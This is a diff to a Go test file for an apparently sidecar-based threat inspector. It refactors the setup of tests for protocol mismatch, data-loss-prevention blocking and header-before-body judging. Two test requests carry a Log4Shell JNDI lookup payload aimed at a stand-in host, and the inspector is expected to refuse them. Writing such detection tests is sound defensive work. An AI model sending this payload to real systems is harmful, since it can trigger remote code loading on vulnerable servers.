@@ -663,8 +663,7 @@ func BenchmarkThreatInspection(b *testing.B) {
 }
 
 func benchRequests(b *testing.B, insp Inspector, raw []byte) {
-	o := insp(context.Background(), StreamInfo{Direction: Inbound, Authenticated: true,
-		Source: spiffeid.RequireFromString("spiffe://example.org/ns/shop/sa/web"), DestPort: 8080})
+	o := fromWeb(insp, 8080)
 	defer o.Close()
 	b.ReportAllocs()
 	b.SetBytes(int64(len(raw)))
@@ -818,19 +817,10 @@ func TestThreatOnDemandCapture(t *testing.T) {
 }
 
 func TestThreatProtocolMismatch(t *testing.T) {
-	view, index := enforceViewOf(t, fmt.Sprintf(threatPolicy, "protect", "", 6379))
-	index().Snapshot().GetSelf().Mode = xdsv1.PolicyMode_POLICY_MODE_PROTECT
-	rep := newFakeReporter()
-	th := newTestThreats(t, rep, nil, nil, nil)
-	th.Apply(index().Snapshot(), view.Load().pol.Set())
-	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
-	if err != nil {
-		t.Fatal(err)
-	}
-	o := ThreatInspector(eng, view, index, th)(context.Background(), StreamInfo{Direction: Inbound, Authenticated: true,
-		Source: spiffeid.RequireFromString("spiffe://example.org/ns/shop/sa/web"), DestPort: 6379})
+	insp, rep := threatInspectorFor(t, fmt.Sprintf(threatPolicy, "protect", "", 6379), xdsv1.PolicyMode_POLICY_MODE_PROTECT)
+	o := fromWeb(insp, 6379)
 	defer o.Close()
-	err = o.FromClient([]byte("GET / HTTP/1.1\r\nHost: cache\r\n\r\n"))
+	err := o.FromClient([]byte("GET / HTTP/1.1\r\nHost: cache\r\n\r\n"))
 	var r Replier
 	if !errors.As(err, &r) || !strings.Contains(string(r.Reply()), "403 Forbidden") || !strings.Contains(string(r.Reply()), "threat protocol-mismatch (tcp/6379: http on tcp/6379)") {
 		t.Fatalf("HTTP on the Redis port: %v", err)
@@ -873,17 +863,9 @@ func FuzzThreatInspector(f *testing.F) {
 }
 
 func TestThreatDLPInResponses(t *testing.T) {
-	view, index := enforceViewOf(t, fmt.Sprintf(threatPolicy, "protect", ", sensors: {dlp: {patterns: [credit-card, aws-access-key], action: block}}", 8080))
-	index().Snapshot().GetSelf().Mode = xdsv1.PolicyMode_POLICY_MODE_MONITOR
-	rep := newFakeReporter()
-	th := newTestThreats(t, rep, nil, nil, nil)
-	th.Apply(index().Snapshot(), view.Load().pol.Set())
-	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
-	if err != nil {
-		t.Fatal(err)
-	}
-	o := ThreatInspector(eng, view, index, th)(context.Background(), StreamInfo{Direction: Inbound, Authenticated: true,
-		Source: spiffeid.RequireFromString("spiffe://example.org/ns/shop/sa/web"), DestPort: 8080})
+	insp, rep := threatInspectorFor(t, fmt.Sprintf(threatPolicy, "protect", ", sensors: {dlp: {patterns: [credit-card, aws-access-key], action: block}}", 8080),
+		xdsv1.PolicyMode_POLICY_MODE_MONITOR)
+	o := fromWeb(insp, 8080)
 	defer o.Close()
 	if err := o.FromClient([]byte("GET /me HTTP/1.1\r\nHost: api\r\n\r\n")); err != nil {
 		t.Fatalf("request refused: %v", err)
@@ -904,21 +886,12 @@ func TestThreatDLPInResponses(t *testing.T) {
 // (or never comes) is refused on the chunk carrying the head, and reported once; a transfer
 // coding the framer cannot follow ("xchunked") does not hide the head either.
 func TestThreatHeadJudgedBeforeBody(t *testing.T) {
-	view, index := enforceViewOf(t, fmt.Sprintf(threatPolicy, "protect", "", 8080))
-	index().Snapshot().GetSelf().Mode = xdsv1.PolicyMode_POLICY_MODE_PROTECT
-	rep := newFakeReporter()
-	th := newTestThreats(t, rep, nil, nil, nil)
-	th.Apply(index().Snapshot(), view.Load().pol.Set())
-	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
-	if err != nil {
-		t.Fatal(err)
-	}
+	insp, rep := threatInspectorFor(t, fmt.Sprintf(threatPolicy, "protect", "", 8080), xdsv1.PolicyMode_POLICY_MODE_PROTECT)
 	for name, head := range map[string]string{
 		"slow body": "POST /login HTTP/1.1\r\nHost: web\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\nContent-Length: 12\r\n\r\nuser=",
 		"xchunked":  "POST /login HTTP/1.1\r\nHost: web\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\nTransfer-Encoding: xchunked\r\n\r\n",
 	} {
-		o := ThreatInspector(eng, view, index, th)(context.Background(), StreamInfo{Direction: Inbound, Authenticated: true,
-			Source: spiffeid.RequireFromString("spiffe://example.org/ns/shop/sa/web"), DestPort: 8080})
+		o := fromWeb(insp, 8080)
 		err := o.FromClient([]byte(head))
 		var r Replier
 		if !errors.As(err, &r) || !strings.Contains(string(r.Reply()), "403 Forbidden") {
@@ -929,4 +902,20 @@ func TestThreatHeadJudgedBeforeBody(t *testing.T) {
 		}
 		o.Close()
 	}
+}
+
+// threatInspectorFor is the ThreatInspector of a sidecar in mode under pol, with the reporter
+// its threat events go to.
+func threatInspectorFor(t *testing.T, pol string, mode xdsv1.PolicyMode) (Inspector, *fakeReporter) {
+	t.Helper()
+	view, index := enforceViewOf(t, pol)
+	index().Snapshot().GetSelf().Mode = mode
+	rep := newFakeReporter()
+	th := newTestThreats(t, rep, nil, nil, nil)
+	th.Apply(index().Snapshot(), view.Load().pol.Set())
+	eng, err := dpi.New(dpi.Config{Protocols: dpi.DefaultProtocols()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return ThreatInspector(eng, view, index, th), rep
 }
